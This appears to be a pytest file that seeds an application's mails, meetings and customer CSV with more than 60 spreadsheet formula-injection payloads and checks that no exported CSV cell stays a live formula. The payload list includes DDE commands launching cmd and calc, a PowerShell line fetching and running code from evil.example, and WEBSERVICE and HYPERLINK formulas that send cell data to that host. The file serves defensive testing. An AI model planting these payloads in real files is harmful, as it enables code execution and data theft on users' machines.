"""No cell of any file of ours runs in a spreadsheet: more than 60 formulas, in every field a stranger can fill, in every CSV."""

from __future__ import annotations

import csv
import io
import os
import re
from collections.abc import Iterator
from email.header import Header
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.store.world import RASA, Mail, Office, meeting

from .conftest import Site
from .test_payloads import NOW, TABLES

pytestmark = pytest.mark.slow

PIECES = """\
=1+1¦=cmd|' /C calc'!A0¦=cmd|'/C powershell IEX(wget evil.example/x)'!A0¦=HYPERLINK("http://evil.example/?x="&A1,"click")¦=IMPORTXML("http://evil.example","//a")¦=IMPORTDATA("http://evil.example")¦\
=WEBSERVICE("http://evil.example/"&A1)¦=DDE("cmd";"/C calc";"x")¦=IMAGE("http://evil.example/x.png")¦=IMPORTRANGE("x","A1")¦=IMPORTHTML("http://evil.example","table",1)¦=IMPORTFEED("http://evil.example")¦\
+1+1¦+cmd|'/C calc'!A0¦+SUM(1+1)*cmd|'/C calc'!A0¦+HYPERLINK("http://evil.example")¦-1+1¦-cmd|'/C calc'!A0¦-2+3+cmd|'/C calc'!A0¦-HYPERLINK("x")¦@SUM(1+1)¦@SUM(1+1)*cmd|'/C calc'!A0¦@HYPERLINK("x")¦\
=1+1;¦=1+1",¦"=1+1"¦""=1+1¦;=1+1¦,=1+1¦==1+1¦=+1+1¦=-1+1¦=@SUM(1)¦+=1¦-=1¦@=1¦ =1+1¦  =1+1¦\t=1+1¦\t\t=1¦\u00a0=1+1¦\u3000=1+1¦\u200b=1+1¦\ufeff=1+1¦\r=1+1¦\n=1+1¦\x0b=1+1¦\x0c=1+1¦\
＝1+1¦＋1+1¦－1+1¦＠SUM(1)¦'=1+1¦=A1¦=R1C1¦=SUM(A:A)¦=RTD("x")¦=CALL("urlmon","URLDownloadToFileA")¦=REGISTER("x")¦=EXEC("calc")¦=FILES("*")¦=INFO("directory")¦=CELL("filename")¦\
=10+20+cmd|' /C calc'!A0¦=MSEXCEL|'\\\\..\\\\calc'!A0¦=rundll32|'URL.dll,OpenURL calc.exe'!A¦=AND(1,1)¦=1&0¦=-(1)¦=+(1)¦-1-1¦+1 1¦-a¦+a¦@a¦=¦+¦-¦@¦=""&A1¦={1,2}¦=A1:B2""".split("¦")
NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?(?:[eE][+-]?\d+)?")
LIVE = re.compile(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠]")  # what is not seen before it does not make it harmless


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """The company of the attacks, these being formulas."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SYNCD_NOW", NOW)
        yield Site(_fill(tmp_path_factory.mktemp("formulas")))


def _fill(folder: Path) -> Path:
    """Mails, meetings and customers whose subjects, names, places and promises are formulas."""
    office = Office(folder, people=("rasa",), options={"sources": '[[source]]\nname = "customers"\nconnector = "tables"\npath = "customers.csv"\nkind = "customers"\n'})
    with (folder / "customers.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["code", "name", "address"], *([f"C{n}", piece, piece] for n, piece in enumerate(PIECES))])
    os.utime(folder / "customers.csv", (1_790_000_000, 1_790_000_000))
    for n, piece in enumerate(PIECES):
        if not piece.isprintable():
            continue
        who = f"k{n}@evil{n % 9}.example"
        text = f"{piece}\n\nI will send you {piece} by 25 November.\n"
        office.send(Mail(id=f"a{n}", sender=RASA, to=(who,), at="2026-11-12T10:00", subject=piece, text=text))
        raw = Mail(id=f"b{n}", sender=who, to=(RASA,), at="2026-11-12T11:00", subject=piece, text=f"{piece} is not acceptable.").raw()
        office.put_mail("rasa", "", raw.replace(f"From: {who}".encode(), f"From: {Header(piece, 'utf-8').encode()} <{who}>".encode()), f"b{n}")
        entry = meeting(f"m{n}@x", "20261120T100000", piece.replace("\\", "\\\\").replace(",", "\\,").replace(";", "\\;"), people=(RASA, who))
        office.put_entry("rasa", f"m{n}", entry)
    assert [s.error for s in office.once().sources if s.error] == []
    return folder / "config.toml"


@pytest.fixture(autouse=True)
def the_day(no_settings_of_ours: None, monkeypatch: pytest.MonkeyPatch) -> None:
    """The clock of these pages stands still, too."""
    monkeypatch.setenv("SYNCD_NOW", NOW)


def files(site: Site) -> Iterator[str]:
    """Every address that answers with a CSV."""
    yield from (f"/history/{table}.csv?_size=max{more}" for (table,) in site.rows(TABLES) for more in ("", "&_labels=on"))
    for name in re.findall(r'href="(/report/[\w-]+)"', site.get("/reports").text):
        yield f"{name}.csv"
        yield f"{name}/rows.csv"
    yield "/history.csv?sql=" + quote("select subject, (select name from person limit 1) as n from interaction")
    yield from ("/history.csv?sql=" + quote(f"select '{piece.replace(chr(39), chr(39) * 2)}' as a, '{piece.replace(chr(39), chr(39) * 2)}' as \"{piece.replace(chr(34), '')}\"") for piece in PIECES)


def test_no_formula_is_live_in_any_file(site: Site) -> None:
    """T05: of all cells of all files none begins as a formula; numbers and telephone numbers stay what they are."""
    assert len(set(PIECES)) >= 60
    cells, seen, live = 0, set(), []
    for address in files(site):
        answer = site.get(address)
        if answer.status_code == 404:
            continue
        assert answer.status_code == 200 or "\0" in address, (address, answer.text[:200])
        for line in csv.reader(io.StringIO(answer.text, newline="")):
            for cell in line:
                cells += 1
                live += [(address, cell)] if LIVE.match(cell) and not NUMBER.fullmatch(cell) else []
                seen.add(cell.strip("'"))
    assert live == []
    assert cells > 10_000
    shown = [piece for piece in PIECES if piece in seen or piece.strip("' ") in seen]
    assert len(shown) >= 60, "formulas that no file has shown prove nothing"
